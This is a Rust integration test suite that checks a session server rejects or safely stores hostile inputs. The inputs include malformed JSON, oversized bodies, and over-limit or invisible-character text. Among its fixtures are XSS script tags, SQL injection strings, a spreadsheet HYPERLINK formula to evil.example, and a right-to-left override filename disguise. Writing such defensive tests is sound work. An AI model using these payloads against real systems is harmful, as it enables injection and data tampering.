//! A catalogue of hostile inputs against every endpoint of a real server.
//!
//! Refused inputs (malformed and deeply nested JSON, wrong content types, a 10 MB body,
//! text one past each limit, negative, huge and fractional numbers, unknown and
//! other-session ids, wrong credentials, invalid `Last-Event-ID`, …) must each get the
//! expected 4xx with the typed body `{"error":{"code","message"}}`, and leave every
//! session exactly as it was: same log position, same state, no new database rows.
//!
//! Valid but hostile text (markup, SQL, spreadsheet formulas, bidi overrides,
//! decomposed look-alikes, text exactly at a limit in 4-byte characters) is accepted by
//! design: it is stored as text, as [`summit_shared::limits::clean`] documents (trimmed,
//! control and disguising invisible characters removed), and rendered as text; the CSV
//! export neutralizes formulas.
//!
//! No request in the whole run may be answered with a 5xx.

mod common;

use common::TestApp;
use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
use reqwest::Method;
use serde_json::{json, Value};
use sqlx::Connection;
use std::time::Duration;
use summit_shared::api::ErrorBody;
use summit_shared::limits::{
    DEPARTMENT_NAME_MAX, JOIN_CODE_ALPHABET, NAME_MAX, OWNER_MAX, TEXT_MAX, TIMER_MAX_SECONDS,
    TITLE_MAX,
};
use summit_shared::Settings;

const MARKETING: u32 = 1;
const SERVICE: u32 = 2;
/// Unknown-code lookups allowed per client address before `429` (see `Limits`).
const JOIN_CODE_MISS_BURST: usize = 20;
/// The command limiter refills 20 tokens a second per participant; stay under it.
const COMMAND_PACE: Duration = Duration::from_millis(55);

/// `n` characters of 4 bytes each: limits count characters, never bytes.
fn four_byte(n: usize) -> String {
    assert_eq!('😀'.len_utf8(), 4);
    "😀".repeat(n)
}

/// Another 4-byte character (musical G clef), so two texts at a limit differ.
fn music(n: usize) -> String {
    assert_eq!('𝄞'.len_utf8(), 4);
    "𝄞".repeat(n)
}

// ---------------------------------------------------------------------------------
// The catalogue's vocabulary: a request, what it must get, and how it is sent.
// ---------------------------------------------------------------------------------

#[derive(Clone)]
enum Body {
    Empty,
    /// Serialized and sent as `application/json`.
    Json(Value),
    /// Bytes as they are, with this content type (or none).
    Raw {
        content_type: Option<&'static str>,
        bytes: Vec<u8>,
    },
    /// `application/json` sent chunked, without a `Content-Length`.
    Chunked(Vec<u8>),
}

#[derive(Clone)]
struct Case {
    name: String,
    method: Method,
    path: String,
    headers: Vec<(HeaderName, HeaderValue)>,
    body: Body,
    status: u16,
    code: &'static str,
    /// Substrings the error message must contain (e.g. the character counts).
    mentions: Vec<String>,
}

impl Case {
    fn new(name: impl Into<String>, method: Method, path: impl Into<String>) -> Case {
        Case {
            name: name.into(),
            method,
            path: path.into(),
            headers: Vec::new(),
            body: Body::Empty,
            status: 0,
            code: "",
            mentions: Vec::new(),
        }
    }

    fn get(name: impl Into<String>, path: impl Into<String>) -> Case {
        Case::new(name, Method::GET, path)
    }

    fn post(name: impl Into<String>, path: impl Into<String>) -> Case {
        Case::new(name, Method::POST, path)
    }

    fn header(mut self, name: &'static str, value: impl AsRef<[u8]>) -> Case {
        let value = HeaderValue::from_bytes(value.as_ref()).expect("header value");
        self.headers.push((HeaderName::from_static(name), value));
        self
    }

    fn bearer(self, token: &str) -> Case {
        self.header("authorization", format!("Bearer {token}"))
    }

    fn json(mut self, body: Value) -> Case {
        self.body = Body::Json(body);
        self
    }

    fn raw(mut self, content_type: Option<&'static str>, bytes: impl Into<Vec<u8>>) -> Case {
        self.body = Body::Raw {
            content_type,
            bytes: bytes.into(),
        };
        self
    }

    fn chunked(mut self, bytes: impl Into<Vec<u8>>) -> Case {
        self.body = Body::Chunked(bytes.into());
        self
    }

    fn expect(mut self, status: u16, code: &'static str) -> Case {
        self.status = status;
        self.code = code;
        self
    }

    fn mentions(mut self, text: impl Into<String>) -> Case {
        self.mentions.push(text.into());
        self
    }

    /// A path short enough for a failure message.
    fn short_path(&self) -> String {
        let mut p: String = self.path.chars().take(90).collect();
        if p.len() < self.path.len() {
            p.push('…');
        }
        p
    }
}

/// Where an accepted input ends up, to read it back from the facilitator's snapshot.
enum Stored {
    ProblemText,
    IdeaText,
    ParticipantName,
    ActionTitle,
    ActionOwner,
    Department(u32),
    /// A new session: its title, or the name of its department at this index.
    NewSessionTitle,
    NewSessionDepartment(usize),
    Timer,
    /// Valid, but must change nothing in the main session.
    Nothing,
}

/// An input that is hostile-looking but valid: accepted, and stored as `expect`.
struct Accepted {
    case: Case,
    stored: Stored,
    expect: String,
}

impl Accepted {
    fn new(case: Case, status: u16, stored: Stored, expect: impl Into<String>) -> Accepted {
        Accepted {
            case: case.expect(status, ""),
            stored,
            expect: expect.into(),
        }
    }
}

/// Ids and credentials of the two sessions the catalogue runs against.
struct Ctx {
    sid: String,
    code: String,
    fac: String,
    ann: String,
    bob: String,
    other_sid: String,
    other_code: String,
    other_fac: String,
    olga: String,
}

impl Ctx {
    fn session(&self) -> String {
        format!("/api/sessions/{}", self.sid)
    }
    fn commands(&self) -> String {
        format!("/api/sessions/{}/commands", self.sid)
    }
    fn participants(&self) -> String {
        format!("/api/sessions/{}/participants", self.sid)
    }
    fn tickets(&self) -> String {
        format!("/api/sessions/{}/tickets", self.sid)
    }
    fn events(&self) -> String {
        format!("/api/sessions/{}/events", self.sid)
    }
    fn export(&self, file: &str) -> String {
        format!("/api/sessions/{}/export/{file}", self.sid)
    }
    fn other_commands(&self) -> String {
        format!("/api/sessions/{}/commands", self.other_sid)
    }

    /// `POST …/commands` with `{"command": command}` as `token`.
    fn cmd(&self, name: impl Into<String>, token: &str, command: Value) -> Case {
        Case::post(name, self.commands())
            .bearer(token)
            .json(json!({ "command": command }))
    }

    /// A session id that is well formed but names no session.
    fn unknown_sid(&self) -> String {
        let mut id: String = "A".repeat(22);
        if id == self.sid || id == self.other_sid {
            id = "B".repeat(22);
        }
        id
    }

    /// A join code from the right alphabet that belongs to neither session.
    fn unknown_code(&self) -> String {
        let alphabet = JOIN_CODE_ALPHABET;
        (0..alphabet.len())
            .map(|i| String::from(char::from(alphabet[i])).repeat(6))
            .find(|c| *c != self.code && *c != self.other_code)
            .expect("a free code")
    }
}

/// Everything observable about the sessions: compared before and after each refusal.
#[derive(Debug, PartialEq)]
struct Probe {
    main_seq: u64,
    main_state: Value,
    other_seq: u64,
    other_state: Value,
    /// Rows in sessions, events, participants, and idempotency records.
    rows: Option<(i64, i64, i64, i64)>,
}

struct Harness {
    app: TestApp,
    cx: Ctx,
    db: Option<sqlx::SqliteConnection>,
    /// Every status the server answered in this run, with the request that got it.
    statuses: Vec<(String, u16)>,
    failures: Vec<String>,
    refused: usize,
    accepted: usize,
}

struct Response {
    status: u16,
    headers: HeaderMap,
    body: Vec<u8>,
}

impl Harness {
    async fn new() -> Harness {
        let app = TestApp::start().await;
        let main = app
            .create_session("Hostile inputs", Settings::default())
            .await;
        let ann = app.join(&main.session_id, "Ann", MARKETING).await;
        let bob = app.join(&main.session_id, "Bob", SERVICE).await;
        let other = app.create_session("Other", Settings::default()).await;
        let olga = app.join(&other.session_id, "Olga", MARKETING).await;
        let db = if app.db_path().exists() {
            let options = sqlx::sqlite::SqliteConnectOptions::new()
                .filename(app.db_path())
                .read_only(true);
            Some(
                sqlx::SqliteConnection::connect_with(&options)
                    .await
                    .expect("read-only view of the test database"),
            )
        } else {
            None
        };
        Harness {
            cx: Ctx {
                sid: main.session_id.0.clone(),
                code: main.join_code.clone(),
                fac: main.facilitator_token.clone(),
                ann: ann.token,
                bob: bob.token,
                other_sid: other.session_id.0.clone(),
                other_code: other.join_code.clone(),
                other_fac: other.facilitator_token.clone(),
                olga: olga.token,
            },
            app,
            db,
            statuses: Vec::new(),
            failures: Vec::new(),
            refused: 0,
            accepted: 0,
        }
    }

    async fn send(&mut self, case: &Case) -> Response {
        self.send_paced(case, true).await
    }

    async fn send_paced(&mut self, case: &Case, pace: bool) -> Response {
        if pace && case.method == Method::POST && case.path.ends_with("/commands") {
            tokio::time::sleep(COMMAND_PACE).await;
        }
        let mut req = self
            .app
            .client
            .request(case.method.clone(), self.app.url(&case.path));
        for (name, value) in &case.headers {
            req = req.header(name.clone(), value.clone());
        }
        req = match &case.body {
            Body::Empty => req,
            Body::Json(v) => req
                .header("content-type", "application/json")
                .body(serde_json::to_vec(v).expect("json")),
            Body::Raw {
                content_type,
                bytes,
            } => {
                let req = match content_type {
                    Some(ct) => req.header("content-type", *ct),
                    None => req,
                };
                req.body(bytes.clone())
            }
            Body::Chunked(bytes) => {
                let chunks: Vec<Result<bytes::Bytes, std::io::Error>> = bytes
                    .chunks(16 * 1024)
                    .map(|c| Ok(bytes::Bytes::copy_from_slice(c)))
                    .collect();
                req.header("content-type", "application/json")
                    .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
                        chunks,
                    )))
            }
        };
        let label = format!("{} {} [{}]", case.method, case.short_path(), case.name);
        let res = match req.send().await {
            Ok(res) => res,
            Err(e) => {
                // Status 0: the case fails with the transport error as its body.
                self.statuses.push((label, 0));
                return Response {
                    status: 0,
                    headers: HeaderMap::new(),
                    body: format!("no answer: {e:?}").into_bytes(),
                };
            }
        };
        let status = res.status().as_u16();
        let headers = res.headers().clone();
        let body = res.bytes().await.map(|b| b.to_vec()).unwrap_or_default();
        self.statuses.push((label, status));
        Response {
            status,
            headers,
            body,
        }
    }

    async fn snapshot(&mut self, sid: &str, token: &str) -> Value {
        let res = self
            .app
            .client
            .get(self.app.url(&format!("/api/sessions/{sid}")))
            .bearer_auth(token)
            .send()
            .await
            .expect("snapshot");
        let status = res.status().as_u16();
        self.statuses
            .push((format!("GET /api/sessions/{sid}"), status));
        assert_eq!(status, 200, "snapshot of {sid}");
        res.json().await.expect("snapshot json")
    }

    async fn main_state(&mut self) -> Value {
        let (sid, fac) = (self.cx.sid.clone(), self.cx.fac.clone());
        self.snapshot(&sid, &fac).await["state"].clone()
    }

    async fn probe(&mut self) -> Probe {
        let (sid, fac) = (self.cx.sid.clone(), self.cx.fac.clone());
        let (osid, ofac) = (self.cx.other_sid.clone(), self.cx.other_fac.clone());
        let main = self.snapshot(&sid, &fac).await;
        let other = self.snapshot(&osid, &ofac).await;
        let rows = match &mut self.db {
            Some(db) => Some(
                sqlx::query_as::<_, (i64, i64, i64, i64)>(
                    "SELECT (SELECT COUNT(*) FROM sessions), (SELECT COUNT(*) FROM events), \
                     (SELECT COUNT(*) FROM participants), \
                     (SELECT COUNT(*) FROM events WHERE command_last_seq IS NOT NULL)",
                )
                .fetch_one(&mut *db)
                .await
                .expect("count rows"),
            ),
            None => None,
        };
        Probe {
            main_seq: main["seq"].as_u64().expect("seq"),
            main_state: main["state"].clone(),
            other_seq: other["seq"].as_u64().expect("seq"),
            other_state: other["state"].clone(),
            rows,
        }
    }

    /// Sends a refused input: right status, typed body, nothing changed.
    async fn refuse(&mut self, case: Case) {
        assert!(
            (400..500).contains(&case.status),
            "{}: a catalogue case expects a 4xx",
            case.name
        );
        let before = self.probe().await;
        let res = self.send(&case).await;
        let after = self.probe().await;
        self.refused += 1;

        let mut wrong = Vec::new();
        if res.status != case.status {
            wrong.push(format!("status {} (expected {})", res.status, case.status));
        }
        let json_type = res
            .headers
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .is_some_and(|ct| ct.starts_with("application/json"));
        if !json_type {
            wrong.push(format!(
                "content-type {:?}",
                res.headers.get("content-type")
            ));
        }
        match serde_json::from_slice::<ErrorBody>(&res.body) {
            Ok(err) => {
                if err.error.code.as_str() != case.code {
                    wrong.push(format!(
                        "code `{}` (expected `{}`)",
                        err.error.code, case.code
                    ));
                }
                if err.error.message.trim().is_empty() {
                    wrong.push("empty message".into());
                }
                for m in &case.mentions {
                    if !err.error.message.contains(m.as_str()) {
                        wrong.push(format!("message {:?} lacks {m:?}", err.error.message));
                    }
                }
            }
            Err(_) => wrong.push(format!(
                "untyped body {:?}",
                String::from_utf8_lossy(&res.body[..res.body.len().min(160)])
            )),
        }
        if res.status == 429 && !res.headers.contains_key("retry-after") {
            wrong.push("429 without Retry-After".into());
        }
        if before != after {
            wrong.push(format!(
                "state changed: main seq {}→{}, other seq {}→{}, rows {:?}→{:?}, main state equal: {}",
                before.main_seq,
                after.main_seq,
                before.other_seq,
                after.other_seq,
                before.rows,
                after.rows,
                before.main_state == after.main_state
            ));
        }
        self.verdict(&case, res.status, wrong);
    }

    /// Sends a valid but hostile-looking input: accepted and stored as documented.
    async fn accept(&mut self, accepted: Accepted) -> Value {
        let Accepted {
            case,
            stored,
            expect,
        } = accepted;
        let before = self.probe().await;
        let res = self.send(&case).await;
        self.accepted += 1;
        let mut wrong = Vec::new();
        if res.status != case.status {
            wrong.push(format!(
                "status {} (expected {}): {}",
                res.status,
                case.status,
                String::from_utf8_lossy(&res.body[..res.body.len().min(200)])
            ));
            self.verdict(&case, res.status, wrong);
            return Value::Null;
        }
        let body: Value = serde_json::from_slice(&res.body).unwrap_or(Value::Null);
        let event = |kind: &str| -> Value {
            body["events"]
                .as_array()
                .and_then(|events| events.iter().find(|e| e["event"]["type"] == kind))
                .map(|e| e["event"].clone())
                .unwrap_or(Value::Null)
        };
        let got: Option<String> = match stored {
            Stored::ProblemText => {
                let id = event("problem_submitted")["problem"]["id"].to_string();
                let state = self.main_state().await;
                state["problems"][&id]["text"].as_str().map(str::to_owned)
            }
            Stored::IdeaText => {
                let id = event("idea_submitted")["idea"]["id"].to_string();
                let state = self.main_state().await;
                state["ideas"][&id]["text"].as_str().map(str::to_owned)
            }
            Stored::ActionTitle | Stored::ActionOwner => {
                let field = if matches!(stored, Stored::ActionTitle) {
                    "title"
                } else {
                    "owner"
                };
                let id = event("action_created")["action"]["id"].to_string();
                let state = self.main_state().await;
                state["actions"][&id][field].as_str().map(str::to_owned)
            }
            Stored::ParticipantName => {
                let id = body["participant_id"].to_string();
                let state = self.main_state().await;
                state["participants"][&id]["name"]
                    .as_str()
                    .map(str::to_owned)
            }
            Stored::Department(id) => {
                let state = self.main_state().await;
                state["departments"]
                    .as_array()
                    .and_then(|ds| ds.iter().find(|d| d["id"] == id))
                    .and_then(|d| d["name"].as_str())
                    .map(str::to_owned)
            }
            Stored::NewSessionTitle | Stored::NewSessionDepartment(_) => {
                let sid = body["session_id"].as_str().unwrap_or("").to_owned();
                let token = body["facilitator_token"].as_str().unwrap_or("").to_owned();
                let snap = self.snapshot(&sid, &token).await;
                match stored {
                    Stored::NewSessionDepartment(i) => snap["state"]["departments"][i]["name"]
                        .as_str()
                        .map(str::to_owned),
                    _ => snap["state"]["title"].as_str().map(str::to_owned),
                }
            }
            Stored::Timer => {
                let state = self.main_state().await;
                Some(state["timer"]["seconds"].to_string())
            }
            Stored::Nothing => {
                let after = self.probe().await;
                let same =
                    after.main_seq == before.main_seq && after.main_state == before.main_state;
                Some(if same { "unchanged" } else { "changed" }.to_owned())
            }
        };
        if got.as_deref() != Some(expect.as_str()) {
            wrong.push(format!("stored {got:?}, expected {expect:?}"));
        }
        self.verdict(&case, res.status, wrong);
        body
    }

    fn verdict(&mut self, case: &Case, status: u16, wrong: Vec<String>) {
        let line = format!(
            "{:4} {} {} [{}] → {status} {}",
            if wrong.is_empty() { "ok" } else { "FAIL" },
            case.method,
            case.short_path(),
            case.name,
            case.code
        );
        println!("{line}");
        if !wrong.is_empty() {
            self.failures
                .push(format!("{line}\n        {}", wrong.join("\n        ")));
        }
    }

    async fn refuse_all(&mut self, cases: Vec<Case>) {
        for case in cases {
            self.refuse(case).await;
        }
    }

    async fn accept_all(&mut self, cases: Vec<Accepted>) -> Vec<Value> {
        let mut bodies = Vec::new();
        for case in cases {
            bodies.push(self.accept(case).await);
        }
        bodies
    }

    /// A setup command that must succeed (not part of the catalogue).
    async fn setup(&mut self, token: &str, command: Value) -> Value {
        let case = self.cx.cmd("setup", token, command.clone());
        let res = self.send(&case).await;
        assert_eq!(
            res.status,
            200,
            "setup {command} → {}",
            String::from_utf8_lossy(&res.body)
        );
        serde_json::from_slice(&res.body).expect("accepted json")
    }

    async fn phase(&mut self, phase: &str) {
        let fac = self.cx.fac.clone();
        self.setup(&fac, json!({"type": "set_phase", "phase": phase}))
            .await;
    }

    async fn ticket(&mut self, sid: &str, token: &str) -> String {
        let case = Case::post("ticket", format!("/api/sessions/{sid}/tickets")).bearer(token);
        let res = self.send(&case).await;
        assert_eq!(res.status, 200, "ticket");
        let body: Value = serde_json::from_slice(&res.body).expect("ticket json");
        body["ticket"].as_str().expect("ticket").to_owned()
    }

    async fn download(&mut self, file: &str) -> String {
        let case = Case::get(file, self.cx.export(file)).bearer(&self.cx.fac);
        let res = self.send(&case).await;
        assert_eq!(res.status, 200, "export {file}");
        String::from_utf8(res.body).expect("utf-8 export")
    }
}

fn id_of(body: &Value, kind: &str, field: &str) -> u64 {
    body["events"]
        .as_array()
        .and_then(|events| events.iter().find(|e| e["event"]["type"] == kind))
        .and_then(|e| e["event"][field]["id"].as_u64())
        .unwrap_or_else(|| panic!("no {kind} in {body}"))
}

/// RFC 4180 rows (the export's cells may hold quotes, commas and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                '"' => quoted = false,
                _ => cell.push(c),
            }
            continue;
        }
        match c {
            '"' => quoted = true,
            ',' => row.push(std::mem::take(&mut cell)),
            '\r' => {}
            '\n' => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

// ---------------------------------------------------------------------------------
// The catalogue, phase by phase.
// ---------------------------------------------------------------------------------

/// Bodies that are not the JSON the endpoint wants, for any JSON endpoint. `valid`
/// is a body the endpoint would accept: wrapped in each defect, it must not be.
fn malformed_bodies(name: &str, path: &str, token: Option<&str>, valid: &Value) -> Vec<Case> {
    let base = |what: &str| {
        let case = Case::post(format!("{name}: {what}"), path);
        match token {
            Some(t) => case.bearer(t),
            None => case,
        }
    };
    let json = Some("application/json");
    let valid = serde_json::to_vec(valid).expect("json");
    let with = |prefix: &[u8], suffix: &[u8]| [prefix, &valid, suffix].concat();
    let nested = format!("{}{}", "[".repeat(30_000), "]".repeat(30_000));
    let mut ten_mb =
        br#"{"title":"t","name":"n","command":{"type":"submit_problem","text":""#.to_vec();
    ten_mb.resize(10 * 1024 * 1024, b'a');
    ten_mb.extend_from_slice(br#""}}"#);
    vec![
        base("truncated JSON")
            .raw(json, valid[..valid.len() - 1].to_vec())
            .expect(400, "invalid_json"),
        base("empty body")
            .raw(json, Vec::new())
            .expect(400, "invalid_json"),
        base("JSON null").raw(json, "null").expect(400, "invalid_body"),
        base("JSON array").raw(json, "[]").expect(400, "invalid_body"),
        base("30000-deep nesting")
            .raw(json, nested)
            .expect(400, "invalid_body"),
        base("lone surrogate escape")
            .raw(
                json,
                r#"{"title":"\ud800","name":"\ud800","command":{"type":"submit_problem","text":"\ud800"}}"#,
            )
            .expect(400, "invalid_json"),
        base("invalid UTF-8 bytes")
            .raw(
                json,
                [
                    &b"{\"title\":\"\xff\xfe\",\"name\":\"\xc3\x28\","[..],
                    &b"\"command\":{\"type\":\"submit_problem\",\"text\":\"\xff\"}}"[..],
                ]
                .concat(),
            )
            .expect(400, "invalid_json"),
        base("byte order mark before valid JSON")
            .raw(json, with(b"\xef\xbb\xbf", b""))
            .expect(400, "invalid_json"),
        base("garbage after valid JSON")
            .raw(json, with(b"", b" DROP TABLE events"))
            .expect(400, "invalid_json"),
        base("two JSON documents")
            .raw(json, with(b"", &valid))
            .expect(400, "invalid_json"),
        base("NaN literal")
            .raw(json, r#"{"x": NaN}"#)
            .expect(400, "invalid_json"),
        base("valid JSON as text/plain")
            .raw(Some("text/plain"), valid.clone())
            .expect(415, "unsupported_media_type"),
        base("valid JSON without a content type")
            .raw(None, valid.clone())
            .expect(415, "unsupported_media_type"),
        base("valid JSON with a garbled content type")
            .raw(Some("application/json, text/html"), valid.clone())
            .expect(415, "unsupported_media_type"),
        base("form encoded")
            .raw(
                Some("application/x-www-form-urlencoded"),
                "name=x&department=1&command=clear_timer",
            )
            .expect(415, "unsupported_media_type"),
        base("multipart")
            .raw(Some("multipart/form-data; boundary=x"), "--x--")
            .expect(415, "unsupported_media_type"),
        base("gzip body is not inflated")
            .header("content-encoding", "gzip")
            .raw(json, &b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xae\x05\x00"[..])
            .expect(400, "invalid_json"),
        base("10 MB body")
            .raw(json, ten_mb.clone())
            .expect(413, "body_too_large"),
        base("10 MB body, chunked")
            .chunked(ten_mb)
            .expect(413, "body_too_large"),
        base("valid JSON from another site")
            .header("origin", "https://evil.example")
            .raw(json, valid.clone())
            .expect(403, "cross_origin"),
        base("valid JSON, Sec-Fetch-Site same-site")
            .header("sec-fetch-site", "same-site")
            .raw(json, valid.clone())
            .expect(403, "cross_origin"),
    ]
}

fn session_creation_cases() -> Vec<Case> {
    let create =
        |what: &str, body: Value| Case::post(format!("create: {what}"), "/api/sessions").json(body);
    let ok_depts = json!(["Marketing", "Customer Service"]);
    let mut cases = vec![
        create(
            "title one past the limit in 4-byte characters",
            json!({"title": four_byte(TITLE_MAX + 1), "departments": ok_depts}),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", TITLE_MAX + 1))
        .mentions(TITLE_MAX.to_string()),
        create("empty title", json!({"title": "", "departments": ok_depts}))
            .expect(422, "empty"),
        create(
            "title of Unicode spaces and controls",
            json!({"title": "\u{3000}\u{00A0}\t\u{0}\u{7}\u{85}", "departments": ok_depts}),
        )
        .expect(422, "empty"),
        create(
            "title of only disguising invisibles",
            json!({"title": "\u{202E}\u{200B}\u{FEFF}\u{2066}", "departments": ok_depts}),
        )
        .expect(422, "empty"),
        create("one department", json!({"title": "t", "departments": ["Solo"]}))
            .expect(422, "department_count"),
        create(
            "nine departments",
            json!({"title": "t", "departments": (1..=9).map(|i| format!("D{i}")).collect::<Vec<_>>()}),
        )
        .expect(422, "department_count"),
        create(
            "5000 departments",
            json!({"title": "t", "departments": vec!["d"; 5000]}),
        )
        .expect(422, "department_count"),
        create(
            "department name one past the limit",
            json!({"title": "t", "departments": ["Sales", four_byte(DEPARTMENT_NAME_MAX + 1)]}),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", DEPARTMENT_NAME_MAX + 1)),
        create(
            "empty department name",
            json!({"title": "t", "departments": ["Sales", "  "]}),
        )
        .expect(422, "empty"),
        create(
            "departments differing only in case",
            json!({"title": "t", "departments": ["Sales", "SALES"]}),
        )
        .expect(422, "duplicate_department"),
        create(
            "departments differing only by a zero-width space",
            json!({"title": "t", "departments": ["Sales", "Sa\u{200B}les"]}),
        )
        .expect(422, "duplicate_department"),
        create(
            "vote budget 0",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": 0, "vote_cap_per_idea": 1,
                                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(422, "invalid_settings"),
        create(
            "vote budget 51",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": 51, "vote_cap_per_idea": 1,
                                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(422, "invalid_settings"),
        create(
            "cap above budget",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": 5, "vote_cap_per_idea": 6,
                                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(422, "invalid_settings"),
        create(
            "negative vote budget",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": -1, "vote_cap_per_idea": 1,
                                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(400, "invalid_body"),
        create(
            "fractional vote budget",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": 2.5, "vote_cap_per_idea": 1,
                                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(400, "invalid_body"),
        create(
            "vote budget past u32",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": 4_294_967_296_u64, "vote_cap_per_idea": 1,
                                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(400, "invalid_body"),
        create(
            "anonymous as a string",
            json!({"title": "t", "departments": ok_depts,
                   "settings": {"vote_budget": 5, "vote_cap_per_idea": 1,
                                "allow_own_department_ideas": false, "anonymous": "yes"}}),
        )
        .expect(400, "invalid_body"),
        create(
            "departments as a string",
            json!({"title": "t", "departments": "Marketing,Service"}),
        )
        .expect(400, "invalid_body"),
        create("missing title", json!({"departments": ok_depts})).expect(400, "invalid_body"),
        create(
            "title as an object",
            json!({"title": {"$ne": null}, "departments": ok_depts}),
        )
        .expect(400, "invalid_body"),
    ];
    cases.extend(malformed_bodies(
        "create",
        "/api/sessions",
        None,
        &json!({"title": "Valid", "departments": ["A", "B"]}),
    ));
    cases
}

fn accepted_sessions() -> Vec<Accepted> {
    let create =
        |what: &str, body: Value| Case::post(format!("create: {what}"), "/api/sessions").json(body);
    let hostile = json!({
        "title": "<script>alert(1)</script>",
        "departments": ["'; DROP TABLE sessions; --", "=HYPERLINK(\"http://evil.example\")"],
    });
    vec![
        Accepted::new(
            create("script tag as title", hostile.clone()),
            201,
            Stored::NewSessionTitle,
            "<script>alert(1)</script>",
        ),
        Accepted::new(
            create("SQL as a department name", hostile.clone()),
            201,
            Stored::NewSessionDepartment(0),
            "'; DROP TABLE sessions; --",
        ),
        Accepted::new(
            create("formula as a department name", hostile),
            201,
            Stored::NewSessionDepartment(1),
            "=HYPERLINK(\"http://evil.example\")",
        ),
        Accepted::new(
            create(
                "title exactly at the limit in 4-byte characters",
                json!({"title": music(TITLE_MAX), "departments": ["A", "B"]}),
            ),
            201,
            Stored::NewSessionTitle,
            music(TITLE_MAX),
        ),
        Accepted::new(
            create(
                "department name at the limit, padded with spaces",
                json!({"title": "t", "departments": [format!("  {}  ", four_byte(DEPARTMENT_NAME_MAX)), "B"]}),
            ),
            201,
            Stored::NewSessionDepartment(0),
            four_byte(DEPARTMENT_NAME_MAX),
        ),
        Accepted::new(
            create(
                "title with controls and an RTL override",
                json!({"title": "  Q1\u{7} review\u{0} \u{202E}cod.exe ", "departments": ["A", "B"]}),
            ),
            201,
            Stored::NewSessionTitle,
            "Q1 review cod.exe",
        ),
    ]
}

fn preview_cases(cx: &Ctx) -> Vec<Case> {
    let preview =
        |what: &str, code: &str| Case::get(format!("preview: {what}"), format!("/api/join/{code}"));
    vec![
        preview("script tag", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
            .expect(404, "unknown_join_code"),
        preview("SQL", "'%20OR%20'1'%3D'1").expect(404, "unknown_join_code"),
        preview(
            "4-byte characters",
            "%F0%9F%98%80%F0%9F%98%80%F0%9F%98%80%F0%9F%98%80%F0%9F%98%80%F0%9F%98%80",
        )
        .expect(404, "unknown_join_code"),
        preview("seven characters", &format!("{}A", cx.code)).expect(404, "unknown_join_code"),
        preview("look-alike 0 for O", "ACDEF0").expect(404, "unknown_join_code"),
        preview("well formed but unknown", &cx.unknown_code()).expect(404, "unknown_join_code"),
        preview("NUL byte", "%00%00%00%00%00%00").expect(404, "unknown_join_code"),
    ]
}

fn join_cases(cx: &Ctx) -> Vec<Case> {
    let join =
        |what: &str, body: Value| Case::post(format!("join: {what}"), cx.participants()).json(body);
    let mut cases = vec![
        join(
            "name one past the limit in 4-byte characters",
            json!({"name": four_byte(NAME_MAX + 1), "department": MARKETING}),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", NAME_MAX + 1))
        .mentions(NAME_MAX.to_string()),
        join("empty name", json!({"name": "", "department": MARKETING})).expect(422, "empty"),
        join(
            "name of control characters",
            json!({"name": "\u{0}\u{7}\u{1b}\u{7f}\u{9f}", "department": MARKETING}),
        )
        .expect(422, "empty"),
        join(
            "name of zero-width space, BOM, word joiner, RTL override",
            json!({"name": "\u{200B}\u{FEFF}\u{2060}\u{202E}", "department": MARKETING}),
        )
        .expect(422, "empty"),
        join(
            "name of Unicode spaces",
            json!({"name": "\u{00A0}\u{3000}\u{2003}\u{2028}", "department": MARKETING}),
        )
        .expect(422, "empty"),
        join("department 0", json!({"name": "Eve", "department": 0}))
            .expect(404, "unknown_department"),
        join("department 3", json!({"name": "Eve", "department": 3}))
            .expect(404, "unknown_department"),
        join(
            "department u32::MAX",
            json!({"name": "Eve", "department": u32::MAX}),
        )
        .expect(404, "unknown_department"),
        join(
            "negative department",
            json!({"name": "Eve", "department": -1}),
        )
        .expect(400, "invalid_body"),
        join(
            "fractional department",
            json!({"name": "Eve", "department": 1.5}),
        )
        .expect(400, "invalid_body"),
        join(
            "department past u32",
            json!({"name": "Eve", "department": 4_294_967_296_u64}),
        )
        .expect(400, "invalid_body"),
        join(
            "department as a string",
            json!({"name": "Eve", "department": "1"}),
        )
        .expect(400, "invalid_body"),
        join("missing name", json!({"department": MARKETING})).expect(400, "invalid_body"),
        join(
            "name as an array",
            json!({"name": ["Eve"], "department": MARKETING}),
        )
        .expect(400, "invalid_body"),
        Case::post(
            "join: unknown session",
            format!("/api/sessions/{}/participants", cx.unknown_sid()),
        )
        .json(json!({"name": "Eve", "department": MARKETING}))
        .expect(404, "session_not_found"),
        Case::post(
            "join: SQL as session id",
            "/api/sessions/'%20OR%201%3D1%20--/participants",
        )
        .json(json!({"name": "Eve", "department": MARKETING}))
        .expect(404, "session_not_found"),
    ];
    cases.extend(malformed_bodies(
        "join",
        &cx.participants(),
        None,
        &json!({"name": "Valid", "department": MARKETING}),
    ));
    cases
}

fn accepted_joins(cx: &Ctx) -> Vec<Accepted> {
    let join = |what: &str, name: &str| {
        Case::post(format!("join: {what}"), cx.participants())
